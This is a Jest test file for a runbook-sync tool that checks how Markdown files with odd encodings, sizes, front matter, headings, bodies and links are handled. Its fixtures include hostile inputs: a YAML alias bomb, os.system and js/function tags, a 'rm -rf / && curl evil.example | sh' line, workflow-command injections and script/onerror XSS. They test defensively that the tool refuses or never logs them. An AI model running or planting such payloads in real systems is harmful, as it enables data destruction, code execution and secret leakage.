import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { mkdir, open, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { UPSERT_PATH } from '../../src/knowledge/api-types.ts'
import type { JobResult } from '../../testing/runner/runner.ts'
import { expectSafe } from './safe.ts'
import { TestEnvironment } from '../../testing/test-environment.ts'
import { reported } from './report.ts'

const FOLDER = 'docs/runbooks'
const CAP = 1_048_576

interface Sent {
  readonly name: string
  /** As the service received it; where absent, the file as it is. */
  readonly content?: string
}

interface Refused {
  readonly reason: RegExp
  readonly hint?: RegExp
  /** Where in the file; `true` where any line will do. */
  readonly line?: number | true
}

interface Skipped {
  readonly skipped: RegExp
  readonly warns: boolean
}

/** What a file becomes in a run; `__tests__/runbook` has more of each kind. */
type Case = readonly [kind: string, file: string | Buffer, expected: Sent | Refused | Skipped]

/** A text of its own, so that no two entries are one. */
function fm(yaml: string, body = 'Text.\n'): string {
  return `---\n${yaml}\n---\n${body}`
}

const EMPTY: readonly Case[] = [
  ['an empty file', '', { skipped: /no text/, warns: true }],
  ['only front matter', fm('title: Only front matter', ''), { skipped: /no text/, warns: true }],
  ['only white space', ' \n\t\r\n\u00a0\n', { skipped: /no text/, warns: true }],
  ['only a byte order mark', '\ufeff', { skipped: /no text/, warns: true }],
  ['a draft', fm('title: A draft\ndraft: true'), { skipped: /draft: true/, warns: false }],
  ['one that says that it is none', fm('runbook: false'), { skipped: /runbook: false/, warns: false }]
]

const ENCODINGS: readonly Case[] = [
  [
    'a byte order mark before front matter',
    '\ufeff---\ntitle: Bom and more\n---\nText.\n',
    { name: 'Bom and more', content: 'Text.\n' }
  ],
  [
    'CRLF with front matter',
    '---\r\ntitle: Crlf and more\r\n---\r\n\r\nOne.\r\nTwo.\r\n',
    { name: 'Crlf and more', content: 'One.\r\nTwo.\r\n' }
  ],
  ['mixed line ends', '# Mixed\r\n\nOne.\rTwo.\n', { name: 'Mixed' }],
  [
    'UTF-16, little end first',
    Buffer.from('\ufeff# Wide\n', 'utf16le'),
    { reason: /UTF-16/, hint: /Save it as UTF-8/ }
  ],
  ['a byte 0xFF', Buffer.from('# Bytes\n\nText \xff.\n', 'latin1'), { reason: /not UTF-8/, line: 3 }],
  ['NUL', '# Nul\n\nText\0.\n', { reason: /NUL/, line: 3 }],
  ['U+FFFD that its author wrote', '# Replacement \ufffd\n', { name: 'Replacement \ufffd' }]
]

const SIZES: readonly Case[] = [
  ['exactly the size cap', `# Cap\n${'x'.repeat(CAP - 6)}`, { name: 'Cap' }],
  [
    'one byte more',
    `# Over\n${'x'.repeat(CAP - 6)}`,
    { reason: /1048577 bytes; 1048576 are allowed/, hint: /max-bytes/ }
  ],
  [
    'an LFS pointer',
    `version https://git-lfs.github.com/spec/v1\noid sha256:${'4'.repeat(64)}\nsize 12345\n`,
    { reason: /Git LFS pointer/, hint: /lfs: true/ }
  ]
]

const BOMB = `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from('bcdefghij')
  .map((key, at) => `${key}: &${key} [${Array.from({ length: 9 }, () => `*${'abcdefghi'[at] ?? ''}`).join(',')}]`)
  .join('\n')}`

const FRONT_MATTER: readonly Case[] = [
  ['an alias bomb', fm(`${BOMB}\ntitle: Bomb`), { name: 'Bomb', content: 'Text.\n' }],
  ['a duplicate key', fm('title: One\nx: 1\ntitle: Two'), { reason: /YAML/, hint: /Keep one/, line: 4 }],
  [
    'a function',
    fm('title: !!js/function "function () { process.exit(7) }"'),
    { reason: /YAML/, hint: /tag/, line: 2 }
  ],
  ['a Python object', fm('title: !!python/object/apply:os.system ["id"]'), { reason: /YAML/, line: 2 }],
  ['10,000 brackets', fm(`x: ${'['.repeat(10_000)}`), { reason: /YAML/, line: true }],
  ['1 MB of it', fm(`x: ${'y'.repeat(1_000_000)}`), { reason: /longer than/, line: true }],
  ['__proto__', fm('__proto__:\n  title: Evil\ntitle: Proto'), { name: 'Proto', content: 'Text.\n' }],
  ['---js', '---js\nmodule.exports = process.exit(7)\n---\nText.\n', { reason: /not YAML/, line: 1 }],
  ['a colon that is not quoted', fm('title: Disk: full'), { reason: /YAML/, hint: /Put quotes around/, line: 2 }],
  ['a command in its error', fm('x: 1\n"::error::pwned": 1\n"::error::pwned": 2'), { reason: /YAML/, line: 4 }]
]

const TITLES: readonly Case[] = [
  ['title: 1.10', fm('title: 1.10'), { name: '1.10', content: 'Text.\n' }],
  ['title: folded over lines', fm('title: >\n  Over two\n  lines'), { name: 'Over two lines', content: 'Text.\n' }],
  ['title: a control character', fm('title: "a\\u0007b"'), { reason: /control character/ }]
]

const HEADINGS: readonly Case[] = [
  ['inline code', '# Restart `nginx -s reload`\n', { name: 'Restart nginx -s reload' }],
  ['entities', '# R&amp;D &lt;3 &#x1F525;\n', { name: 'R&D <3 \u{1F525}' }],
  ['in a code fence', '```sh\n# not a heading\n```\n\n# A heading\n', { name: 'A heading' }],
  ['none but an H2', '## Second\n\nText.\n', { name: 'h-none-but-an-h2' }]
]

const BODIES: readonly Case[] = [
  ['an expression', '# Expression\n\n${{ secrets.RUNBOOK_SYNC_TOKEN }} ${{ github.token }}\n', { name: 'Expression' }],
  ['a shell', '# Shell\n\n$(id) `id` ; rm -rf / && curl evil.example | sh\n', { name: 'Shell' }],
  ['an add-mask', '# Mask\n\n::add-mask::pwned\n  ::stop-commands::pwned\n##[add-mask]pwned\n', { name: 'Mask' }],
  ['an output', '# Output\n\n::set-output name=x::pwned\npwned=1\nEOF\n', { name: 'Output' }],
  ['escape sequences', '# Escapes\n\n\u001b[31mpwned\u001b[0m\u2028\u202epwned\n', { name: 'Escapes' }],
  ['a script', '# Script\n\n<script>pwned()</script><img onerror=pwned()>\n', { name: 'Script' }]
]

const SECTIONS = { e: EMPTY, c: ENCODINGS, s: SIZES, f: FRONT_MATTER, t: TITLES, h: HEADINGS, b: BODIES }

function pathOf(section: string, kind: string): string {
  const slug = kind
    .toLowerCase()
    .replace(/[^a-z0-9 -]/g, '')
    .trim()
    .replaceAll(' ', '-')
  return `${FOLDER}/${section}-${slug}.md`
}

const BLOB = 'https://github.com/harbour/handbook/blob/main'
const RAW = 'https://github.com/harbour/handbook/raw/main'

/** What stands in the file, and what is sent of it. */
const LINKS: readonly (readonly [kind: string, written: string, sent: string])[] = [
  ['inline', '[a](a.md)', `[a](${BLOB}/docs/runbooks/a.md)`],
  ['<url with spaces>', '[a](<a b.md>)', `[a](<${BLOB}/docs/runbooks/a%20b.md>)`],
  ['an image in a link', '[![a](a.png)](a.md)', `[![a](${RAW}/docs/runbooks/a.png)](${BLOB}/docs/runbooks/a.md)`],
  ['#anchor', '[a](#steps)', '[a](#steps)'],
  ['escaping the repository', '[a](../../../a.md)', '[a](../../../a.md)'],
  ['with a query and a fragment', '[a](a.md?x=1#y)', `[a](${BLOB}/docs/runbooks/a.md?x=1#y)`],
  ['in a code span', '`[a](a.md)`', '`[a](a.md)`'],
  [
    'in an HTML attribute',
    'x <a href="a.md">a</a> <img src="a.png">',
    `x <a href="${BLOB}/docs/runbooks/a.md">a</a> <img src="${RAW}/docs/runbooks/a.png">`
  ],
  ['javascript:', '[a](javascript:alert(1))', '[a](javascript:alert(1))'],
  ['a reference', '[a][one]', '[a][one]'],
  ['in a table', 'x | [a](a.md)', `x | [a](${BLOB}/docs/runbooks/a.md)`]
]

const FENCE = '```md\n[a](a.md) <img src="a.png">\n[one]: a.md\n```\n'
const INDENTED = '    [a](a.md)\n'
const LINKS_BEFORE = `# Every link\n\n${LINKS.map(([, written]) => `${written}  \n\n`).join('')}${FENCE}\n${INDENTED}\n[one]: a.md 'One'\n`
const LINKS_AFTER = `# Every link\n\n${LINKS.map(([, , sent]) => `${sent}  \n\n`).join('')}${FENCE}\n${INDENTED}\n[one]: ${BLOB}/docs/runbooks/a.md 'One'\n`

let environment: TestEnvironment
let job: JobResult

beforeAll(async () => {
  const files = Object.entries(SECTIONS).flatMap(([section, cases]) =>
    cases.map(([kind, file]) => [pathOf(section, kind), file] as const)
  )
  if (new Set(files.map(([path]) => path)).size !== files.length) throw new Error('Two cases have one path')
  environment = await TestEnvironment.with({
    ...Object.fromEntries(files),
    [`${FOLDER}/links.md`]: LINKS_BEFORE,
    [`${FOLDER}/README.md`]: '',
    [`${FOLDER}/a.md`]: 'A.\n'
  })
  job = await environment.run()
}, 60_000)

afterAll(async () => {
  await environment[Symbol.asyncDispose]()
})

function check(section: string, [kind, file, expected]: Case): void {
  const path = pathOf(section, kind)
  const runbook = reported(job, path)
  if ('reason' in expected) {
    expect(runbook).toMatchObject({ outcome: 'refused', attempts: 0, reason: expect.stringMatching(expected.reason) })
    expect(runbook.hint).toMatch(expected.hint ?? /\.$/)
    if (expected.line !== undefined)
      expect(runbook.line).toEqual(expected.line === true ? expect.any(Number) : expected.line)
  } else if ('skipped' in expected) {
    expect(runbook).toMatchObject({ outcome: 'skipped', attempts: 0, reason: expect.stringMatching(expected.skipped) })
    const warnings = job.commands.filter(({ name, properties }) => name === 'warning' && properties['file'] === path)
    expect(warnings).toHaveLength(expected.warns ? 1 : 0)
  } else {
    expect(runbook).toMatchObject({ outcome: 'upserted', name: expected.name, line: null })
    expect(environment.entries().get(expected.name)).toBe(expected.content ?? file.toString())
  }
}

describe('the run over all of them', () => {
  test('is red, and says so once', () => {
    expectSafe(job, environment.token)
    expect(job.exitCode).toBe(1)
  })

  test('sent nothing of what was refused, and never a character for another', () => {
    const names = environment.received(UPSERT_PATH).map(({ body }) => (body as { name: string }).name)
    expect(new Set(names).size).toBe(Number(job.outputs['upserted']))
    const replaced = [...environment.entries()].filter(([name, content]) => `${name}${content}`.includes('\ufffd'))
    expect(replaced.map(([name]) => name)).toEqual(['Replacement \ufffd'])
  })

  test('printed no body', () => {
    expect(job.stdout.replace(/^::add-mask::.*$/gm, '')).not.toMatch(/pwned|secrets\.|rm -rf|onerror/)
    expect(job.masks.join()).not.toContain('pwned')
  })
})

describe('without text', () => {
  test.each(EMPTY)('%s', (...row) => {
    check('e', row)
  })

  test('an index page: skipped without a warning', () => {
    expect(reported(job, `${FOLDER}/README.md`)).toMatchObject({ outcome: 'skipped' })
    expect(job.commands.filter(({ properties }) => properties['file'] === `${FOLDER}/README.md`)).toEqual([])
  })
})

describe('in size', () => {
  test.each(SIZES)('%s', (...row) => {
    check('s', row)
  })

  test('a file of 1 TB on the disk is refused by its size, before it is read', async () => {
    const workspace = join(environment.folder, 'disk')
    await mkdir(join(workspace, FOLDER), { recursive: true })
    const file = await open(join(workspace, FOLDER, 'huge.md'), 'w')
    await file.truncate(2 ** 40)
    await file.close()
    await writeFile(join(workspace, FOLDER, 'small.md'), '# Small\n')
    const disk = await environment.run({}, { workspace })
    expectSafe(disk, environment.token)
    expect(reported(disk, `${FOLDER}/huge.md`)).toMatchObject({
      outcome: 'refused',
      reason: expect.stringContaining('1099511627776 bytes')
    })
    expect(reported(disk, `${FOLDER}/small.md`)).toMatchObject({ outcome: 'upserted' })
  })
})

describe.each<[string, string, readonly Case[]]>([
  ['encoded with', 'c', ENCODINGS],
  ['front matter with', 'f', FRONT_MATTER],
  ['the name from', 't', TITLES],
  ['the name from an H1 with', 'h', HEADINGS]
])('%s', (_, section, cases) => {
  test.each(cases)('%s', (...row) => {
    check(section, row)
  })
})

describe('a body with', () => {
  test.each(BODIES)('%s: sent as it is, never in a log', (...row) => {
    check('b', row)
  })
})

describe('links', () => {
  const everyLink = () =>
    environment.entries().get('Every link')?.replaceAll(environment.github.url, 'https://github.com')

  test.each(LINKS)('%s', (_, written, sent) => {
    const at = LINKS.findIndex(([, one]) => one === written)
    expect(everyLink()?.split('  \n\n')[at]?.replace('# Every link\n\n', '')).toBe(sent)
  })

  test('code untouched, and the rest byte for byte', () => {
    expect(everyLink()).toBe(LINKS_AFTER)
  })

  test('a missing target: one warning at its line, although the text is compared and sent', async () => {
    const text = '---\na: 1\n---\n# L\n\n[a](l.md) [b](../no.md#x)\n\n![c](../../README.md)\n'
    await using other = await TestEnvironment.with({ [`${FOLDER}/l.md`]: text })
    await other.write('L', 'By hand.\n')
    const { annotations } = await other.run()
    const warnings = annotations.map(({ level, message }) => `${level} ${message.replace(/ does not exist.*/, '')}`)
    expect(warnings.filter((warning) => warning.includes('link target'))).toEqual([
      'warning docs/runbooks/l.md:6: The link target docs/no.md',
      'warning docs/runbooks/l.md:8: The link target README.md'
    ])
  })
})
